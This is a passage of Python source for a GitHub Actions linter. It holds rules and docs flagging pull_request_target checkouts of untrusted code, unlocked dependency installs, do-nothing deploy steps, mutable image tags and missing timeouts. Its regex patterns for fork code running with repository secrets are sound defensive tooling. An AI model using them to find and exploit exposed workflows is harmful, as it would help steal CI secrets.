dangerous (running the pull request's code with the base repository's secrets) and leaves
injected text to GA007. checkov CKV_GHA_* has none.
""",
)
def ga008(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    trigger = next((t for t in ("pull_request_target", "workflow_run") if t in doc.triggers), None)
    if trigger is None:
        return
    for job in doc.jobs:
        if job.if_ is not None and _same_repo_only(job.if_.value):
            continue
        for step in job.steps:
            where = _head_checkout(step)
            if where is not None:
                yield Problem(
                    f"`{trigger}` runs with this repository's secrets and token, and {step.label} "
                    "fetches the pull request's own code",
                    where,
                )


_HEAD_REF = re.compile(
    r"pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|refs/pull/|pull_request\.merge_commit_sha"
    r"|workflow_run\.head_(?:sha|branch|repository)|\bpull/\$\{\{",
    re.IGNORECASE,
)
_SAME_REPO = re.compile(
    r"head(?:_repository|\.repo)\.full_name\s*==\s*github\.repository"
    r"|github\.repository\s*==\s*[\w.]*head(?:_repository|\.repo)\.full_name"
    r"|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork"
    # Only Dependabot authors a pull request as `dependabot[bot]`, and its branches live in this
    # repository. (`github.actor` is not accepted: it names whoever caused the run.)
    r"|pull_request\.user\.login\s*==\s*'dependabot\[bot\]'",
    re.IGNORECASE,
)


def _same_repo_only(condition: str) -> bool:
    return bool(_SAME_REPO.search(condition)) and "||" not in condition


def _head_checkout(step: Step) -> int | None:
    if step.action.startswith("actions/checkout"):
        for key in ("ref", "repository"):
            text = step.input(key)
            if text is not None and _HEAD_REF.search(text.value):
                return text.line
        return None
    if step.run is None:
        return None
    for cmd in step_commands(step):
        words = cmd.words
        if cmd.program == "gh" and "pr" in words and "checkout" in words:
            return facts.command_line(step.run, cmd)
        if (
            cmd.program == "git"
            and {"fetch", "checkout", "switch"} & set(words)
            and any(_HEAD_REF.search(w) for w in words)
        ):
            return facts.command_line(step.run, cmd)
    return None


@file_rule(
    "GA009",
    "W",
    FAMILY,
    "CI install ignores the lockfile",
    fix="Install from the lockfile: `npm ci`, `pnpm install --frozen-lockfile`, "
    "`yarn install --immutable`, `uv sync --locked`.",
    docs="""
## What it does
Reports dependency installs in `run:` steps that may resolve versions other than the locked ones:
`npm install` without package arguments, `yarn install` without `--immutable`/`--frozen-lockfile`,
`pnpm install` without `--frozen-lockfile`, `bun install` without `--frozen-lockfile`, and
`uv sync` without `--locked`/`--frozen`. Installing a named tool (`npm install -g x`,
`pip install ruff`) is not what this rule is about.

## Why it matters
CI should test exactly what will ship. An install that is free to update the lockfile tests
different versions than the developer ran, hides a lockfile that is out of date, and pulls a freshly
published (possibly malicious) release into a pipeline that holds deploy credentials. (pnpm and
Yarn 2+ freeze the lockfile on CI by default when they detect one; saying it explicitly makes the
intent visible and fails loudly when the lockfile is missing.)

## Example
```yaml
- run: npm install
- run: pnpm install
```

## Fix
```yaml
- run: npm ci
- run: pnpm install --frozen-lockfile
```

## Equivalent rules
None in zizmor, actionlint or checkov; hadolint DL3016 is the Dockerfile neighbour (DF011 here).
""",
)
def ga009(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    for job in doc.jobs:
        for step in job.steps:
            if step.run is None:
                continue
            for cmd in script_commands(step.run.value):
                reason = _unlocked(cmd)
                if reason:
                    yield Problem(reason, facts.command_line(step.run, cmd))


def _unlocked(cmd: Command) -> str | None:
    sub = cmd.unwrapped()
    if sub.program == "bun":
        positional = [a for a in sub.args() if not a.startswith("-")]
        if positional == ["install"] and not sub.has("--frozen-lockfile"):
            return "`bun install` without `--frozen-lockfile`"
        return None
    if sub.program not in ("npm", "yarn", "pnpm", "uv") or sub.has("-g", "--global"):
        return None
    # imported here: it loads the Dockerfile parser, which a repository without one never needs
    from opsmith.rules.dockerfile_facts import unlocked_install

    return unlocked_install(sub)


@file_rule(
    "GA010",
    "W",
    FAMILY,
    "Deploy step that does nothing",
    fix="Replace the placeholder with the real deploy command (or remove the job until there is one).",
    docs="""
## What it does
Reports a deploy step (named "deploy", or in a job whose name or `environment:` says it deploys)
whose script only prints or waits (`echo`, `printf`, `sleep`, `true`), when the job has no real
deploy step.

## Why it matters
A placeholder deploy turns the pipeline green and makes everyone believe the release went out,
while production still runs the previous version. It often survives for months because nothing
fails.

## Example
```yaml
deploy:
  environment: production
  steps:
    - name: Deploy to production
      run: echo "Deploying ${{ github.sha }}"
```

## Fix
```yaml
    - name: Deploy to production
      run: helm upgrade --install shop ./chart --set image.tag=${{ github.sha }} --wait --atomic
```

## Equivalent rules
None in zizmor, actionlint or checkov.
""",
)
def ga010(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    for job in doc.jobs:
        if job.uses is not None or DEPLOY in job_facts(job).kinds:
            continue
        deploy_job = job.environment is not None or _says_deploy(f"{job.id} {job.name or ''}")
        for step in job.steps:
            if step.run is None or not _only_prints(step.run.value):
                continue
            if _says_deploy(step.name or "") or (deploy_job and _only_real_work_is_printing(job)):
                yield Problem(f"{step.label} only prints: nothing is deployed", step.line)
                break


_DEPLOY_WORD = re.compile(r"(?i)(^|[^a-z])(deploy\w*|release to|ship|rollout|promote)([^a-z]|$)")
_DO_NOTHING = frozenset({"echo", "printf", "sleep", "true", ":", "date", "env"})


def _says_deploy(text: str) -> bool:
    return bool(_DEPLOY_WORD.search(text))


def _only_prints(script: str) -> bool:
    cmds = script_commands(script)
    return bool(cmds) and all(c.program in _DO_NOTHING for c in cmds)


def _only_real_work_is_printing(job: Job) -> bool:
    for step in job.steps:
        if step.run is not None:
            if not _only_prints(step.run.value):
                return False
        elif not step.action.startswith(PREPARATION_ACTIONS):
            return False
    return True


@file_rule(
    "GA011",
    "W",
    FAMILY,
    "Image pushed only under a mutable tag",
    fix="Also tag the image with the commit SHA (`app:${{ github.sha }}`) or a release version, and "
    "deploy that tag.",
    docs="""
## What it does
Reports a job that pushes container images (`docker push`, `docker buildx build --push`,
`docker/build-push-action` with `push: true`, `podman`/`buildah push`, `crane`, `skopeo`) when every
tag it pushes is a moving name: no tag (`latest`), `latest`, `main`, `master`, `stable`, `edge`,
`dev`, `staging`, `prod`... Tags computed at run time that opsmith cannot see (for example
`docker/metadata-action` outputs) are given the benefit of the doubt.

## Why it matters
A mutable tag is overwritten by the next push. Nobody can tell which commit is running, two nodes
pulling minutes apart run different code, and a rollback has nothing to roll back to because the
previous image no longer has a name.

## Example
```yaml
- uses: docker/build-push-action@<sha>
  with:
    push: true
    tags: ghcr.io/acme/shop:latest
```

## Fix
```yaml
    tags: |
      ghcr.io/acme/shop:${{ github.sha }}
      ghcr.io/acme/shop:latest
```

## Equivalent rules
None in zizmor, actionlint or checkov; DF001/DC001/KU001 catch the consuming side (`latest` images).
""",
)
def ga011(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    for job in doc.jobs:
        pushes = [p for step in job.steps for p in facts.pushed_tags(step)]
        if not pushes:
            continue
        if all(facts.is_mutable_tag(tag) for _step, _line, tag in pushes):
            _step, line, _tag = pushes[0]
            shown = ", ".join(sorted({f"`{facts.tag_label(t)}`" for _s, _l, t in pushes}))
            yield Problem(
                f"job `{job.id}` pushes images only as {shown}: the next push overwrites them and "
                "no tag says which commit is deployed",
                line,
            )


@file_rule(
    "GA012",
    "I",
    FAMILY,
    "Job without timeout-minutes",
    fixer=JOB_TIMEOUT,
    fix="Set `timeout-minutes:` on the job, a few times its usual duration.",
    docs="""
## What it does
Reports a job that sets no `timeout-minutes`. Jobs that call a reusable workflow (`uses:`) cannot
set it and are exempt.

## Why it matters
The default is 360 minutes. A hung test, a deploy waiting for a rollout that never finishes, or an
interactive prompt keeps a runner busy for six hours, blocks the concurrency group behind it and
burns paid minutes.

## Example
```yaml
jobs:
  test:
    runs-on: ubuntu-latest
```

## Fix
```yaml
jobs:
  test:
    runs-on: ubuntu-latest
    timeout-minutes: 15
```

## Equivalent rules
None in zizmor or checkov; actionlint has none (it is a style choice there).
""",
)
def ga012(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    for job in doc.jobs:
        if job.uses is None and not job.has_timeout:
            yield Problem(f"job `{job.id}` has no `timeout-minutes` (the default is 6 hours)", job.line)


RULES: tuple[Rule[WorkflowDoc], ...] = (
    ga001,
    ga002,
    ga003,
    ga004,
    ga005,
    ga006,
    ga007,
    ga008,
    ga009,
    ga010,
    ga011,
    ga012,
    ga013,
    ga014,
    ga015,
)


def _schema_problems(doc: WorkflowDoc) -> list[Problem]:
    try:
        return [Problem(p.message, p.line) for p in schema_problems(SCHEMA, doc.tree) if not _lenient(p)]
    except RecursionError:  # jsonschema recurses several frames per level of nesting
        return [Problem("the workflow is nested too deeply to check against its schema", 1)]
